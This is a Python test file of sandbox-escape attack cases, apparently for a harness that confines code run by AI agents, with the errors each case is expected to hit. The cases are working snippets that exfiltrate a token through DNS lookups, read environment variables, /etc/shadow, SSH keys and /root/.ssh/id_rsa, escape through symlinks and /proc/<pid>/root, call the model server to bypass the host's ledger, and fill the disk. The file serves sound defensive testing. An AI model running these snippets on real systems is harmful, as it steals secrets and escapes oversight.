"""Attacks on what lies outside the sandbox: the network, the host's secrets, the host's files."""

from __future__ import annotations

from attack_cases.base import attack

# --- network ---------------------------------------------------------------------------------------
attack(
    "net-tcp-loopback",
    "connect to a TCP listener of the host on 127.0.0.1",
    """
import socket
for host in ['127.0.0.1', 'localhost', '::1']:
    try:
        socket.create_connection((host, $PORT), timeout=2).sendall(b'pwned')
        print('CONNECTED', host)
    except OSError as exc:
        print('refused', host, exc)
""",
    said=("Operation not permitted", "Network is unreachable", "Cannot assign requested address"),
    said_landlock=("Operation not permitted",),
)
attack(
    "net-tcp-host-ip",
    "connect to the host's listener on its LAN address and 0.0.0.0",
    """
import socket
for host in ['$IP', '0.0.0.0']:
    try:
        socket.create_connection((host, $PORT), timeout=2).sendall(b'pwned')
        print('CONNECTED', host)
    except OSError as exc:
        print('refused', host, exc)
""",
    said=("Operation not permitted", "Network is unreachable"),
    said_landlock=("Operation not permitted",),
)
attack(
    "net-model-server",
    "call the model server directly, bypassing the host's ledger",
    """
import json, urllib.request
marker = 'DIRECT-' + '$TOKEN'[::-1]
body = json.dumps({'model': 'scripted', 'messages': [{'role': 'user', 'content': marker}]}).encode()
try:
    urllib.request.urlopen(urllib.request.Request('$URL/chat/completions', data=body,
                           headers={'Content-Type': 'application/json'}), timeout=3)
    print('REACHED the model server')
except Exception as exc:
    print('blocked', exc)
""",
    said=("Operation not permitted", "Network is unreachable"),
    said_landlock=("Operation not permitted",),
)
attack(
    "net-dns",
    "DNS lookup of a name carrying data, and a raw DNS query to the host's resolver port",
    """
import socket
try:
    print(socket.getaddrinfo('leak-' + '$TOKEN'[::-1] + '.example.com', 80))
except OSError as exc:
    print('no dns:', exc)
query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
for addr in [('127.0.0.1', $DNS), ('$IP', $DNS), ('8.8.8.8', 53)]:
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, addr)
        print('SENT', addr)
    except OSError as exc:
        print('blocked', addr, exc)
""",
    said=("no dns",),
)
attack(
    "net-udp",
    "UDP datagrams to the host's listener (loopback, LAN address, broadcast)",
    """
import socket
for addr in [('127.0.0.1', $UDP), ('$IP', $UDP), ('255.255.255.255', $UDP)]:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b'pwned', addr)
        print('SENT', addr)
    except OSError as exc:
        print('blocked', addr, exc)
""",
    said=("Operation not permitted", "Network is unreachable"),
    said_landlock=("Operation not permitted",),
)
attack(
    "net-unix-abstract",
    "connect to an abstract unix socket the host listens on",
    """
import socket
try:
    socket.socket(socket.AF_UNIX).connect('\\0$ABSTRACT')
    print('CONNECTED')
except OSError as exc:
    print('refused', exc)
""",
    said=("Operation not permitted", "Connection refused"),
    said_landlock=("Operation not permitted",),
)
attack(
    "net-unix-path",
    "connect to a host service's unix socket by path (like docker.sock)",
    """
import socket
for path in ['$UNIXPATH', '/var/run/docker.sock', '/run/dbus/system_bus_socket']:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print('CONNECTED', path)
    except OSError as exc:
        print('refused', path, exc)
""",
    said=("Operation not permitted", "No such file or directory"),
    said_landlock=("Operation not permitted",),
)

# --- secrets ---------------------------------------------------------------------------------------
attack(
    "secret-environ",
    "read the API keys from os.environ and send them out",
    "import os\nleak('ENV', dict(os.environ))",
    said=("PYTHONPATH",),
)
attack(
    "secret-proc-self",
    "read /proc/self/environ and /proc/1/environ",
    """
for path in ['/proc/self/environ', '/proc/1/environ']:
    try:
        leak(path, open(path, 'rb').read())
    except OSError as exc:
        print('refused', path, exc)
""",
)
attack(
    "secret-proc-parent",
    "read the environ of the parent, of the host's pid and of every visible process",
    """
import os
pids = {os.getppid(), $HOST_PID} | {int(p) for p in os.listdir('/proc') if p.isdigit()}
for pid in sorted(pids):
    try:
        leak(f'environ {pid}', open(f'/proc/{pid}/environ', 'rb').read())
    except OSError as exc:
        print('refused', pid, exc)
""",
)
attack(
    "secret-proc-cmdline",
    "read the host's command line from /proc/<host pid>/cmdline",
    """
import os
for pid in [$HOST_PID, os.getppid()]:
    try:
        leak(f'cmdline {pid}', open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' '))
    except OSError as exc:
        print('refused', pid, exc)
""",
)
attack(
    "secret-etc-shadow",
    "read /etc/shadow, /etc/gshadow and the SSH host keys",
    """
import glob
for path in ['/etc/shadow', '/etc/gshadow', *glob.glob('/etc/ssh/*key*')]:
    try:
        leak(path, open(path).read())
    except OSError as exc:
        print('refused', path, exc)
""",
    said=("No such file or directory",),
    said_landlock=("Permission denied",),
)
attack(
    "secret-planted-file",
    "read a secret file planted outside the sandbox, by absolute path",
    """
try:
    leak('PLANTED', open('$PLANTED').read())
except OSError as exc:
    print('refused', exc)
""",
    said=("No such file or directory",),
    said_landlock=("Permission denied",),
)
attack(
    "secret-fs-search",
    "walk the whole visible file system for anything secret-looking",
    """
import os, time
t0, seen, hits = time.time(), 0, []
for root, dirs, files in os.walk('/'):
    if root.startswith(('/proc', '/usr/share', '/usr/lib')) or time.time() - t0 > 1.5:
        dirs[:] = []
        continue
    for name in files:
        if time.time() - t0 > 1.5:
            break
        path = os.path.join(root, name)
        try:
            data = open(path, 'rb').read(1 << 20)
        except OSError:
            continue
        seen += 1
        if b'SECRET' in data or b'PLANTED' in data or b'sk-' in data:
            hits.append(path)
print('files read:', seen)
leak('HITS', hits[:50])
""",
    said=("files read",),
)
attack(
    "secret-root-home",
    "list and read the host user's home (/root)",
    """
import os
leak('ROOT-LIST', sorted(os.listdir('/root')))
for path in ['/root/.bash_history', '/root/.ssh/id_rsa', '/root/.netrc', '/root/.config']:
    try:
        leak(path, open(path).read())
    except OSError as exc:
        print('refused', path, exc)
""",
)

# --- files -----------------------------------------------------------------------------------------
attack(
    "file-write-outside",
    "write files outside the working directory (project, host tmp, /etc, /usr, python)",
    """
import os, sys
targets = ['$TMP/pwned', '$REPO/pwned-$TOKEN', '/etc/pwned-$TOKEN', '/usr/pwned-$TOKEN',
           os.path.join(sys.prefix, 'pwned-$TOKEN'), '/pwned-$TOKEN', '/root/pwned-$TOKEN']
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'w') as fh:
            fh.write('pwned')
        print('wrote (inside the sandbox only)', path)
    except OSError as exc:
        print('refused', path, exc.strerror)
""",
    said=("Read-only file system",),
    said_landlock=("Permission denied",),
)
attack(
    "file-symlink-escape",
    "symlink (and hard link) from the temp dir to host files, then read through them",
    """
import os
for i, target in enumerate(['$PLANTED', '/etc/shadow', '/proc/$HOST_PID/root/etc/shadow',
                            '/proc/1/root/../../etc/shadow', '/proc/$HOST_PID/environ']):
    link = f'/tmp/link{i}'
    os.symlink(target, link)
    try:
        leak(link, open(link, 'rb').read())
    except OSError as exc:
        print('refused', target, exc.strerror)
try:
    os.link('/etc/passwd', '/tmp/hard')
    print('hard link made')
except OSError as exc:
    print('no hard link', exc.strerror)
""",
)
attack(
    "file-proc-root",
    "escape the view through /proc/<pid>/root and /proc/<pid>/cwd, and chroot",
    """
import os
for path in ['/proc/1/root/etc/shadow', '/proc/self/root/../../../etc/shadow', '/proc/1/cwd/../etc/shadow',
             '/proc/$HOST_PID/root/etc/shadow']:
    try:
        leak(path, open(path).read())
    except OSError as exc:
        print('refused', path, exc.strerror)
try:
    os.chroot('/tmp')
    print('CHROOTED')
except OSError as exc:
    print('no chroot', exc.strerror)
""",
    said=("Operation not permitted",),
)
attack(
    "file-fill-disk",
    "fill the disk from the working directory",
    """
try:
    with open('fill', 'wb') as fh:  # the working directory: /tmp of the namespaces, the Landlock scratch
        while True:
            fh.write(b'x' * (1 << 20))
except OSError as exc:
    print('stopped', exc.errno, exc.strerror)
""",
    said=("stopped 27", "stopped 28"),
)
